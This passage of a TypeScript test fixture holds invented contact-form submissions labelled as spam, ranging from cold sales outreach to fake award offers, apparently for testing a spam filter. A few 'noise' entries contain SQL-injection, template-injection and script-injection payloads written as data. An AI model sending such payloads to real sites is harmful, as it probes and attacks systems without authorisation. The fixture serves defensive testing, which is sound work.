import type { Sample } from '../../sample.ts';

export const spamFourth: readonly Sample[] = [
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Daniel Whitfield',
      email: 'daniel@growthpath-advisory.example',
      phone: '555 0118',
      company: 'GrowthPath Advisory',
      message:
        "Hi Solvane team,\n\nI was reading through your case studies this morning and was genuinely impressed by how you combine blockchain and AI for mid-sized businesses. It's rare to see a team explain complex work so plainly.\n\nI work with software firms of your size to turn that kind of credibility into a steady flow of qualified conversations. Nothing flashy, just consistent.\n\nWould it be a terrible idea to exchange a few thoughts next week?\n\nWarmly,\nDaniel",
    },
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Emily Hartmann',
      email: 'emily.h@outboundcraft.test',
      phone: '+1 555 0172',
      company: '',
      message:
        "Noticed Solvane is expanding its cloud practice, congrats! Usually when companies reach this stage, the founders are still the ones doing most of the selling. Curious: is that the case for you too? We've helped a similar consultancy take 60% of that off the founder's plate in about ten weeks. Happy to share how, no strings attached.",
    },
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Ryan Coles',
      email: 'ryan@nimbusgrowth.example',
      phone: '555-0109',
      company: 'Nimbus Growth',
      message:
        "Quick question about your mobile services page. I saw that you position yourselves as an end-to-end partner, which I love, but the page doesn't answer the question most CTOs have in the first 10 seconds. I recorded a short 3 minute video with two ideas. Okay if I send it over?",
    },
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Aisha Khan',
      email: 'aisha.khan@brightloopmedia.example',
      phone: '+44 20 7946 0111',
      company: 'BrightLoop Media',
      message:
        "Hello,\n\nI hope this message finds you well. While researching innovative software companies in Europe I came across Solvane, and your focus on practical AI really stood out.\n\nI'd love to explore whether there could be synergies between our teams. We produce short explainer videos that help technical companies communicate value to non-technical buyers. Our clients typically see a 34% uplift in demo requests.\n\nWould you be open to a brief 15 minute chat on Wednesday or Thursday?\n\nKind regards,\nAisha",
    },
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Mark Stanton',
      email: 'mark@peakpipeline.test',
      phone: '5550190',
      company: 'Peak Pipeline',
      message:
        "Not sure if you're the right person, so apologies if this lands wrong. I help custom dev shops fill quiet months. Last quarter we brought a 20-person team like yours four retainers between 8k and 15k a month. If I could do the same for Solvane, would that be worth a look? If not, just say no and I'll leave you in peace.",
    },
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Olivia Grant',
      email: 'olivia.grant@cfo-onward.example',
      phone: '+1 555 0133',
      company: 'Onward Fractional',
      message:
        "Hi there, came across Solvane while looking at firms doing fixed-price software work. One thing we hear again and again from founders in that space is that margin disappears between quote and delivery and nobody sees it until the year end. I'm a fractional CFO and work only with software agencies. I'd be glad to do a free look at one project's numbers. Any interest?",
    },
    fillMs: 1908,
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Jessica',
      email: 'jess.miller88@mail.example',
      phone: '555 0101',
      company: '',
      message: 'Hello, I have a question about your services. Please reply to me by email.',
    },
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'David Brown',
      email: 'dbrown@inbox.test',
      phone: '555 0199',
      company: '',
      message: 'Is this the right contact for the business owner?',
    },
    fillMs: 1259,
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Anna',
      email: 'anna.sun@mail.example',
      phone: '+1 555 0110',
      company: '',
      message: 'Hi dear, I am interested in your company. Can we discuss a partnership? Kindly get back to me.',
    },
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Mr. Leonard',
      email: 'leonard.office@mail.invalid',
      phone: 'none',
      company: '',
      message: 'I have a business proposal that will be of benefit to both of us. Reply for details.',
    },
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Kelvin Moore',
      email: 'kelvin@rankboosters.example',
      phone: '555 0144',
      company: 'Rank Boosters',
      message:
        "Hi,\n\nI checked your website solvane and found several errors which prevent it from ranking on the first page of Google. We can place your site on top 3 in 90 days for keywords like 'software company' and 'AI development'. Can I send you the audit report with price list?",
    },
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Laura P',
      email: 'laura@guestposthub.test',
      phone: '555 0188',
      company: '',
      message:
        'Hello, do you accept guest posts on your blog? We have a client in the fintech niche and would pay $80 per article with one do-follow link. Content will be 100% unique and written by human. Please let me know your guidelines and price for link insertion also.',
    },
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Nitin Sharma',
      email: 'nitin@webtechplus.example',
      phone: '+91 5550 0123',
      company: 'WebTechPlus Solutions',
      message:
        'Dear Sir/Madam, We are an ISO certified IT company from India having 150+ in-house developers. We provide dedicated resources for React, Node, Laravel, Flutter, AI/ML at $12-18 per hour. We can work as your white label offshore partner. Kindly share your requirement or let me know suitable time for a quick call.',
    },
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Marta Kowal',
      email: 'marta@benchready.example',
      phone: '+48 22 555 0148',
      company: 'BenchReady',
      message:
        'Hi! We currently have 3 senior Go engineers and 1 DevOps coming off a project on the 15th. If you have any gaps in the team for the coming months, I can send CVs today. B2B contract, CET, rates from 42 EUR/h. Best, Marta',
    },
    fillMs: 2202,
  },
  {
    label: 'spam',
    kind: 'leads',
    message: {
      name: 'Brian Keller',
      email: 'brian@verifiedlists.example',
      phone: '555 0106',
      company: '',
      message:
        "Would you be interested in an updated contact list of CTOs, CIOs and IT Directors attending the upcoming cloud expo? 8,450 verified contacts with emails and phone. Let me know and I'll send counts and cost.",
    },
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Tina Alvarez',
      email: 'tina@timelyhub.example',
      phone: '+1 555 0167',
      company: 'TimelyHub',
      message:
        "Hi, teams like yours lose about 6 hours per person per week on timesheets. TimelyHub tracks time automatically in the background and connects with Jira. I can set up a free workspace for Solvane with 10 seats for 30 days, just reply 'yes' and I'll do it.",
    },
    fillMs: 24937,
  },
  {
    label: 'spam',
    kind: 'scare',
    message: {
      name: 'Accessibility Team',
      email: 'notice@ada-scan.example',
      phone: '555 0170',
      company: '',
      message:
        'Your website was scanned and 43 accessibility violations were detected. Businesses in your sector have received demand letters averaging $25,000. The European Accessibility Act is now in force. Our widget makes you compliant in 48 hours. Get your report: https://ada-scan.example/report',
    },
  },
  {
    label: 'spam',
    kind: 'award',
    message: {
      name: 'Charlotte Rees',
      email: 'charlotte@globalbiz-awards.example',
      phone: '020 7946 0177',
      company: 'Global Business Excellence Awards',
      message:
        "Congratulations! Solvane has been nominated as 'Most Innovative AI & Blockchain Company of the Year'. Our panel was highly impressed. To accept the nomination and secure your profile in the printed edition, a one-time contribution of £895 applies. Please reply by Friday to avoid your place being offered to another company.",
    },
  },
  {
    label: 'spam',
    kind: 'noise',
    message: {
      name: 'PqTzrWlk',
      email: 'xkjdue@mail.invalid',
      phone: '84720184',
      company: 'QrzBnMk',
      message: 'kTzLpWvXoQyRmNbS',
    },
  },
  {
    label: 'spam',
    kind: 'noise',
    message: {
      name: "admin' OR '1'='1",
      email: 'test@example.com',
      phone: "' OR 1=1--",
      company: '',
      message: "1' UNION SELECT NULL,NULL,version()-- -",
    },
    fillMs: 466,
    fromAddress: 33,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Hannah Lowe',
      email: 'hannah@clarity-content.example',
      phone: '555 0121',
      company: 'Clarity Content',
      message:
        'Hi there,\n\nYour piece on choosing between a custom build and off-the-shelf software was a refreshing read, particularly the bit on hidden licence costs. It made me wonder who writes for you, because the cadence has slowed since spring.\n\nI lead a small editorial team that ghostwrites for engineering-led companies. We interview your people for half an hour and turn it into four articles. Could I send over a sample built around a topic of your choosing?\n\nBest,\nHannah',
    },
    fillMs: 28068,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Victor Lang',
      email: 'victor@meridian-revops.example',
      phone: '+1 555 0148',
      company: '',
      message:
        "I'll keep this short. Solvane does six things (AI, blockchain, web, mobile, custom, cloud). Buyers remember one. We helped an agency in your space narrow to a single wedge offer and their close rate went from 14 to 31 percent. I've sketched what that wedge might be for you. Shall I send it?",
    },
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Sanne de Wit',
      email: 'sanne@hirebridge.example',
      phone: '+31 20 555 0104',
      company: 'HireBridge',
      message:
        "Hi! I saw you're looking to grow your engineering team and thought I'd reach out. I currently represent two machine learning engineers in Rotterdam who specifically asked me about smaller consultancies like Solvane. Neither is actively on the market. Would you be open to seeing anonymised profiles? No cure no pay of course.",
    },
    fillMs: 1172,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Peter Nowicki',
      email: 'peter.n@trustsignal.test',
      phone: '555 0162',
      company: 'TrustSignal',
      message:
        "Hey Solvane, great to see what you're building. I looked you up on three review platforms and found far fewer reviews than your work deserves. Your competitors average 27. Our clients collect 12-15 verified reviews in the first month, all from real customers and completely hands-off. Can I show you how it might look for Solvane?",
    },
    fillMs: 2127,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Grace Adeyemi',
      email: 'grace@foundry-capital.example',
      phone: '+44 20 7946 0162',
      company: 'Foundry Lane Capital',
      message:
        "Dear Founder,\n\nI hope you're well. We represent a group of private buyers actively acquiring profitable software services companies with revenues between £1m and £10m. Solvane fits the profile extraordinarily well, given your recurring maintenance income.\n\nEven if a sale isn't on your mind, it may be useful to know what your business could be worth today. Would a confidential conversation be of interest?\n\nGrace Adeyemi\nDirector, Acquisitions",
    },
    fillMs: 44374,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Liam Porter',
      email: 'liam@porterlanding.example',
      phone: '555 0115',
      company: '',
      message:
        "Was on your site from my phone on the train and the work page took a moment, but the projects are lovely, esp. the logistics one. I'm a conversion copywriter. I rewrote your headline for fun: 'Software your people will actually use.' Yours to keep either way. If you like it I have five more ideas for the homepage.",
    },
    fillMs: 52650,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Natalie Brooks',
      email: 'natalie@signalhouse.example',
      phone: '+1 555 0184',
      company: 'Signal House',
      message:
        "Solvane team, following up on my note from last week as I know inboxes get busy. I had mentioned that several manufacturers in your region are actively comparing AI partners right now, and our intent data shows who they are. It'd take ten minutes to show you the list. Would Tuesday 11am or Wednesday 3pm suit better?",
    },
    fillMs: 18420,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Tobias Renner',
      email: 't.renner@vertriebsraum.example',
      phone: '+49 30 555 0166',
      company: 'Vertriebsraum',
      message:
        'Hello, I noticed that you serve German-speaking customers but your outreach seems to rely on referrals. That is a strength and a risk at the same time. I have worked with 40+ IT service providers to build a predictable second channel. In a free strategy talk I show you the three levers. Here is my calendar: https://cal.vertriebsraum.example/tobias',
    },
    fillMs: 31510,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Chloe Martin',
      email: 'chloe@greenledger.example',
      phone: '555 0128',
      company: 'GreenLedger',
      message:
        'Hi, I admire that Solvane talks openly about efficient cloud use. More and more enterprise tenders ask suppliers for a carbon report, and software firms are often caught off guard. We prepare a scope 1-3 report for companies under 50 staff in about two weeks. May I ask whether a client has requested one from you yet?',
    },
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Jacob Feld',
      email: 'jacob@loopdemo.test',
      phone: '555 0173',
      company: 'LoopDemo',
      message:
        "Hello! Loved the animation on your homepage. Random thought: prospects who land there can't try anything. What if they could click through an interactive demo of one of your projects? We built these for 60+ dev shops. I took the liberty of mocking one up for you, want to see it?",
    },
    fillMs: 908,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Isabelle Fournier',
      email: 'isabelle@atelier-rp.example',
      phone: '+33 1 55 50 01 70',
      company: 'Atelier RP',
      message:
        'Dear Solvane team, I follow the European AI scene closely and your name has come up in a couple of conversations. Journalists I work with are looking for practitioners who can comment on AI in mid-sized companies. I believe your founder would be a strong voice. We work on a modest monthly retainer and only with companies we believe in. Shall we talk?',
    },
    fillMs: 57516,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Sam Okoro',
      email: 'sam@fundfinder.example',
      phone: '555 0151',
      company: 'FundFinder',
      message:
        'Hi - did you know that much of what Solvane does probably qualifies for R&D tax relief? We looked at your public filings and estimate an unclaimed amount between 40k and 90k. We only get paid when you do. Could you point me to whoever looks after finance?',
    },
    fillMs: 26375,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Becca Long',
      email: 'becca@longviewpartners.example',
      phone: '+1 555 0137',
      company: 'Longview',
      message:
        'Honestly not sure if this is relevant, but I was comparing notes with another founder of a dev company and he mentioned his biggest regret was waiting too long with partnerships. We matchmake software firms with marketing agencies that need a tech arm. 3 agencies in our network are looking right now. Should I make an intro?',
    },
    fillMs: 33376,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Arjun Mehta',
      email: 'arjun@datalabelforce.example',
      phone: '+91 5550 0177',
      company: 'DataLabelForce',
      message:
        "Hello Solvane,\n\nGiven your work in applied AI I imagine that labelled training data is a recurring bottleneck. Our team of 400 trained annotators handles images, text, audio and LiDAR with 98% accuracy. We'd be delighted to run a free pilot on 500 of your items so you can judge for yourselves.\n\nMay I know who handles data operations?",
    },
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Megan Doyle',
      email: 'megan@nestworkspace.example',
      phone: '555 0194',
      company: 'Nest Workspace',
      message:
        "Hi, saw that your team seems to be largely remote. Love that. Many remote-first companies tell us the thing they miss is a place to meet clients. We've got a members' lounge and meeting rooms by the hour, and I'd be happy to offer Solvane a complimentary day. Can I pop you down for a tour?",
    },
    fillMs: 47305,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Ethan Wells',
      email: 'ethan@wellsadvisory.test',
      phone: '+1 555 0155',
      company: '',
      message:
        "Your AI page mentions 'pilots in six weeks'. That's a great promise. The question we keep hearing from buyers is: what happens in week seven? We design the commercial model behind that moment. One client added 210k in follow-on work without a single new lead. If I emailed you the one-page framework, would you read it?",
    },
    fillMs: 21111,
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Robert',
      email: 'robert.t@mail.example',
      phone: '555 0184',
      company: '',
      message: 'Hello, can you please tell me who is in charge of marketing decisions?',
    },
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Linda Chow',
      email: 'linda.chow@inbox.test',
      phone: '555 0120',
      company: '',
      message: 'Good day, I tried calling but nobody answered. Please email me back, thanks.',
    },
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Michael',
      email: 'mike.consult@mail.test',
      phone: '5550139',
      company: '',
      message: 'Hi, are you the owner? I have something for you.',
    },
    fillMs: 850,
    sameText: 17,
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Sarah',
      email: 'sarah.kent@mail.example',
      phone: '555 0161',
      company: '',
      message:
        'I was trying to find your price list but could not. Do you accept credit card payments? Also do you own the company or manage it?',
    },
    fillMs: 18019,
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Amelia',
      email: 'amelia_w@inbox.test',
      phone: '+1 555 0195',
      company: '',
      message: 'hey, just checking if this form works?',
    },
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Mrs. Grace Wilson',
      email: 'gracewilson@mail.invalid',
      phone: '-',
      company: '',
      message: 'Good morning, I want to invest in your country. Are you willing to work with me? Sincerely Mrs. Grace',
    },
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Henry',
      email: 'henry.purchasing@trade.test',
      phone: '555 0178',
      company: 'Henry Trading',
      message:
        'Please send your catalog and best price. We want to place a large order this month. Do you ship to Guam?',
    },
    fillMs: 15052,
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Karen Fox',
      email: 'kfox@mail.example',
      phone: '555 0108',
      company: '',
      message: 'Did you get my last email?',
    },
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Steve',
      email: 'steve@inbox.test',
      phone: '555 0112',
      company: '',
      message:
        'We have clients looking for your type of service in your area. How many new jobs can you handle a month?',
    },
    fillMs: 2414,
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Nora',
      email: 'nora@mail.test',
      phone: 'none',
      company: '',
      message: 'Hello i like your site. can we talk on whatsapp',
    },
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'John Dennis',
      email: 'john.dennis@mail.example',
      phone: '555 0143',
      company: '',
      message:
        'Hello, I am John. I want to know if you can design a website for my new company and if you can accept credit card. I am hearing impaired so text or email only. My consultant has the content.',
    },
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Paula',
      email: 'paula.h@mail.example',
      phone: '555 0159',
      company: '',
      message: 'Who should I speak to about a quick idea for your homepage?',
    },
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Adam Fisher',
      email: 'adam@blogreach.example',
      phone: '555 0117',
      company: 'BlogReach',
      message:
        "Hi, I've written an article titled '7 Ways Cloud Computing Changes Retail' that I think your readers would really enjoy. It's free, all I ask is a small link back to my client in the body. May I send the draft?",
    },
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Olga',
      email: 'olga@linkmart.test',
      phone: '+380 555 0188',
      company: 'LinkMart',
      message:
        'Hello webmaster! I want to buy a permanent link on your site from the post about mobile development. Casino / CBD / crypto accepted? We pay $150 by PayPal or USDT. Price for homepage link too please.',
    },
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Chris Nolan',
      email: 'chris@localfirstseo.example',
      phone: '555 0186',
      company: 'Local First',
      message:
        "I typed 'AI company near me' and you were on page 4. Your three closest competitors are on page 1. That's costing you roughly 22 inquiries a month. I'd put together a free plan, just reply with the best email.",
    },
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Raj',
      email: 'raj.seo@mail.test',
      phone: '+91 5550 0119',
      company: '',
      message:
        'Dear Business Owner, we can get your website on google 1st page with white hat SEO, monthly $199 only. On page, off page, backlinks DA 50+, weekly report. Interested? Send your phone number and we will call',
    },
    sameText: 9,
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Monica Reed',
      email: 'monica@adslot-network.example',
      phone: '+1 555 0138',
      company: 'AdSlot Network',
      message:
        "Hi, we'd like to advertise on your blog. We are thinking about a small banner in the sidebar or a sponsored article, 12 months, paid upfront. Do you have a media kit? Our advertisers are mostly VPN and trading platforms.",
    },
    fillMs: 34074,
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Ben',
      email: 'ben@outreachdesk.test',
      phone: '555 0141',
      company: '',
      message:
        'Found a broken link on your resources page pointing to a cloud pricing calculator that no longer exists. We happen to have a similar one: https://cloudcalc.example/tool. Could you swap it in? Would help your visitors.',
    },
    fillMs: 16963,
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Whitney Cole',
      email: 'whitney@aisearch-visibility.example',
      phone: '555 0196',
      company: '',
      message:
        "ChatGPT doesn't mention Solvane when I ask for AI development companies. It does name four of your competitors. Generative engine optimisation fixes this, and we're taking three more clients this quarter. Reply 'GEO' and I'll send the screenshots.",
    },
    fillMs: 1421,
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Anjali Verma',
      email: 'anjali@pixelnest.example',
      phone: '+91 5550 0142',
      company: 'PixelNest',
      message:
        'Hello, I was browsing your website and noticed the design is a bit outdated and may not be giving the best first impression. We are a team of UI/UX designers and can redesign it in modern style starting at $399. Would you like to see some of our recent work and a proposal?',
    },
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Huy Tran',
      email: 'huy.tran@saigonsoft.example',
      phone: '+84 28 5550 0130',
      company: 'SaigonSoft Outsourcing',
      message:
        'Dear Solvane,\nMy name is Huy from SaigonSoft, top 10 software outsourcing company in Vietnam. We understand that European companies face a shortage of talent and rising labour cost. With us you can reduce development cost by up to 60%. We offer ODC model, 2 weeks free trial.\nMay I arrange a meeting with our BOD when they visit Europe next month?',
    },
    fillMs: 29347,
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Kateryna',
      email: 'kateryna@devstream.test',
      phone: '+380 44 555 0117',
      company: 'DevStream',
      message:
        'Hello! Do you need extra hands on blockchain projects? Our Solidity and Rust people are available right away, 30-45 USD/hr. We worked with agencies from Germany, UK and Denmark as a hidden team under NDA.',
    },
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Alex',
      email: 'alex@flutterpros.test',
      phone: '555 0126',
      company: '',
      message:
        'i am freelance flutter developer with 7 year experience, can do ios android web app very low cost. i checked your app portfolio, i can help you deliver faster. give me one task for free to test me sir',
    },
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Carlos Mendez',
      email: 'carlos@nearshorelink.example',
      phone: '+52 55 5550 0156',
      company: 'NearshoreLink',
      message:
        'Hi Solvane, staff augmentation out of Guadalajara. Pre-vetted engineers, same-day shortlists, replacement guarantee, one invoice. US agencies save 48% on average. Are you hiring any of these right now: React Native, Azure, data engineering?',
    },
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Simran',
      email: 'simran@appwala.test',
      phone: '+91 5550 0108',
      company: 'Appwala',
      message:
        'Hope you are doing great! We are mobile app development company. Do you have any requirement of app? Whatsapp me for quick quotation and portfolio. Special discount 30% this month only.',
    },
  },
  {
    label: 'spam',
    kind: 'leads',
    message: {
      name: 'Derek Shaw',
      email: 'derek@meetings-on-tap.example',
      phone: '555 0132',
      company: 'Meetings on Tap',
      message:
        "We book 10-15 sales meetings a month for IT companies, pay per meeting attended, no retainer, no setup. If a prospect doesn't show you don't pay. Who at Solvane handles new business?",
    },
    fillMs: 18194,
  },
  {
    label: 'spam',
    kind: 'leads',
    message: {
      name: 'Ashley Green',
      email: 'ashley.green@datab2b.test',
      phone: '555 0179',
      company: '',
      message:
        "Hi, Following up to see if you'd like to acquire the database of SAP, Oracle, AWS and Salesforce users. Fields: name, title, direct email, phone, company size, tech installed. Please advise target geography and I will get back with samples and pricing.",
    },
  },
  {
    label: 'spam',
    kind: 'leads',
    message: {
      name: 'Femi',
      email: 'femi@closershq.example',
      phone: '+44 20 7946 0149',
      company: 'ClosersHQ',
      message:
        'What would 20 extra discovery calls a month do for Solvane? Our appointment setters are trained specifically for AI agencies. We guarantee 20 or you get your money back. Book here https://closershq.example/solvane',
    },
    fillMs: 2185,
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Julie Barnes',
      email: 'julie@voicelane.example',
      phone: '+44 20 7946 0105',
      company: 'VoiceLane Telecom',
      message:
        'Hi, is your phone contract up for renewal? The old copper lines are being switched off and many businesses have not yet moved. We can provide cloud telephony from £6.95 per user with free handsets. When is a good time to go through your current bill?',
    },
    fillMs: 38941,
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Phil Granger',
      email: 'phil@granger-insure.example',
      phone: '555 0114',
      company: 'Granger Insurance Brokers',
      message:
        "Professional indemnity and cyber cover for software companies, quotes in 24 hours from 12 insurers. AI liability is now excluded in many standard policies, so it's worth checking yours. Send me your renewal date and turnover and I'll do the rest.",
    },
    fillMs: 45416,
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Promo Team',
      email: 'sales@merchbarn.test',
      phone: '555 0189',
      company: 'MerchBarn',
      message:
        'Branded hoodies, mugs, notebooks and socks for your team from 25 pieces! Free mockup with the Solvane logo. Order before the end of the month and get free shipping + 15% off code TECH15.',
    },
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Ines Duarte',
      email: 'ines@hostalia-cloud.example',
      phone: '+351 21 555 0190',
      company: 'Hostalia',
      message:
        'Good afternoon, we offer bare metal servers with GPU (A100, L40S) from 0.79 EUR per hour, no commitments, ideal for AI companies like yours. Can I create a test account with 100 EUR credit for you?',
    },
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Training Dept',
      email: 'info@agileuni.test',
      phone: '555 0102',
      company: 'AgileUni',
      message:
        'Last seats! Certified Scrum Master + AI for Project Managers, 2 day live online, group discount 3 for 2. Dates: 12-13 and 26-27. Register your team today at https://agileuni.test/cohort',
    },
    fillMs: 626,
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Wendy Xu',
      email: 'wendy@lanyardfactory.example',
      phone: '+86 755 5550 0181',
      company: 'Shenzhen Lanyard Factory',
      message:
        'Dear purchasing manager, glad to know you are in the market of IT. We are factory of lanyards, USB sticks, power bank with logo since 2008. MOQ 100 pcs, sample free. Please contact me for catalogue. B.rgds Wendy',
    },
  },
  {
    label: 'spam',
    kind: 'scare',
    message: {
      name: 'Legal Department',
      email: 'legal@imagerights-agency.example',
      phone: '555 0176',
      company: 'Image Rights Agency',
      message:
        'We act on behalf of the photographer whose work appears on your website without a valid licence. To settle this matter amicably a payment of EUR 480 is due within 10 days. The evidence file and payment form are at https://imagerights-agency.example/case/77120. Failure to respond will result in court action.',
    },
  },
  {
    label: 'spam',
    kind: 'scare',
    message: {
      name: 'Domain Services',
      email: 'renewal@domain-registry-notice.test',
      phone: '555 0145',
      company: '',
      message:
        'DOMAIN EXPIRATION NOTICE: solvane search engine registration is pending. This important notification notifies you about the expiry of your domain listing. Failure to complete by the date may result in cancellation, making it difficult for customers to locate you. Secure payment online.',
    },
    sameText: 27,
  },
  {
    label: 'spam',
    kind: 'scare',
    message: {
      name: 'Zeeshan',
      email: 'zeeshan.sec@mail.test',
      phone: '+92 555 0133',
      company: '',
      message:
        'Hello Team, I am security researcher. I found a vulnerability in your website which can lead to takeover of email (missing DMARC). I will share details and PoC. Do you have bug bounty? I expect reward for my effort. Waiting for your positive response',
    },
    fillMs: 21364,
  },
  {
    label: 'spam',
    kind: 'scare',
    message: {
      name: 'Privacy Audit EU',
      email: 'audit@gdpr-check.example',
      phone: '+49 30 555 0142',
      company: 'GDPR Check',
      message:
        'During our routine review we determined that your website transmits visitor IP addresses to third countries before consent. Fines of up to 4% of turnover are possible. Our certified data protection officers can remedy this for 89 EUR monthly. Reply within 7 days to receive your audit result free of charge.',
    },
    fillMs: 2600,
  },
  {
    label: 'spam',
    kind: 'award',
    message: {
      name: 'Podcast Booking',
      email: 'guest@scaleupstories.example',
      phone: '555 0157',
      company: 'ScaleUp Stories',
      message:
        "Hi! We'd love to have your founder on ScaleUp Stories, heard by 120k entrepreneurs a month. Our audience has been asking for someone in AI. There is a small production fee of $650 that covers editing, clips and promotion. We have two slots left in this season. Interested?",
    },
  },
  {
    label: 'spam',
    kind: 'award',
    message: {
      name: 'Editorial Desk',
      email: 'editor@cio-ledger-mag.test',
      phone: '+1 555 0199',
      company: 'CIO Ledger Magazine',
      message:
        'We are pleased to inform you that Solvane has been shortlisted as one of the 10 Most Promising Blockchain Solution Providers. The package including a 2 page profile, the cover logo, certificate and reprint rights costs USD 3,000. Shall we schedule a call with the managing editor?',
    },
  },
  {
    label: 'spam',
    kind: 'award',
    message: {
      name: 'Joyce Lam',
      email: 'joyce@asia-techforum.example',
      phone: '+852 5550 0120',
      company: 'Asia Tech Forum',
      message:
        "Dear Speaker, on behalf of the organising committee it's our honour to invite Solvane to speak at the 9th Asia Tech Forum. Speaker packages begin at 1,900 USD incl. gala dinner and exhibitor listing. Please confirm at your earliest convenience.",
    },
  },
  {
    label: 'spam',
    kind: 'noise',
    message: {
      name: '{{7*7}}',
      email: 'a@example.com',
      phone: '${7*7}',
      company: '',
      message: '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}',
    },
    fillMs: 403,
    fromAddress: 41,
  },
  {
    label: 'spam',
    kind: 'noise',
    message: {
      name: 'test',
      email: 'scan@example.org',
      phone: '1',
      company: '<script>alert(1)</script>',
      message: '"><script>alert(document.domain)</script>',
    },
    fromAddress: 58,
  },
  {
    label: 'spam',
    kind: 'noise',
    message: {
      name: 'Gjwkdh',
      email: 'wlqpz@mail.invalid',
      phone: '77712093',
      company: '',
      message: 'hwJxkQ pqoei MNZbxva 8812 lskd',
    },
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Kirsten Amos',
      email: 'kirsten@northbeam-sales.example',
      phone: '555 0116',
      company: 'Northbeam',
      message:
        "Hi Solvane,\n\nA quick thought after looking at your cloud migration page. You describe the technical steps brilliantly, but a CFO reading it wouldn't find a single number. In our experience that's where 40% of deals stall.\n\nWe create simple ROI calculators that sit on such pages and gently qualify the visitor. It took a peer of yours from 3 to 11 inquiries a month.\n\nShall I draft what yours might look like? No cost, no commitment.\n\nKirsten",
    },
    fillMs: 26223,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Andrew Pell',
      email: 'andrew.pell@boardbridge.example',
      phone: '+44 20 7946 0119',
      company: 'BoardBridge',
      message:
        "Good afternoon. I advise a handful of technology founders as a non-executive and Solvane caught my attention through the quality of the work on show. I have room for one more company this year. I'm not asking for anything beyond a coffee, virtual or otherwise, to see whether my background in scaling services firms from 2 to 10 million might be useful.",
    },
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Yasmin Cole',
      email: 'yasmin@captionary.test',
      phone: '555 0136',
      company: 'Captionary',
      message:
        "Hey there! Your LinkedIn hasn't been posted to in a little while, and honestly I get it, client work comes first. We take 20 minutes of voice notes from a founder and turn them into a month of posts that sound like you, not like a robot. I wrote three sample posts for Solvane yesterday evening. Want them?",
    },
    fillMs: 31078,
  },
  {
    label: 'spam',
